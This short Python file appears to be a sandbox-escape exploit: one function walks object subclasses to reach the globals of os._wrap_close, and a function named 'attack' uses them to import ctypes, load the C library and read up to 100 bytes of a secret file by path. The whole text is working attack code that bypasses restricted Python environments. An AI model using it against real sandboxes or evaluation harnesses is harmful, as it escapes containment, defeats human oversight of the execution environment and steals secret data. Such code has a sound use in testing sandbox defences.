# Walks to the C library by `ctypes`, and calls it.
def _reach():
    for kind in ().__class__.__base__.__subclasses__():
        if kind.__name__ == "_wrap_close":
            return kind.__init__.__globals__
    raise ValueError("not found")


def attack(secret_path):
    ctypes = _reach()["sys"].modules["builtins"].__import__("ctypes")
    libc = ctypes.CDLL(None)
    room = ctypes.create_string_buffer(100)
    libc.read(libc.open(secret_path.encode(), 0), room, 100)
    return room.value.decode()
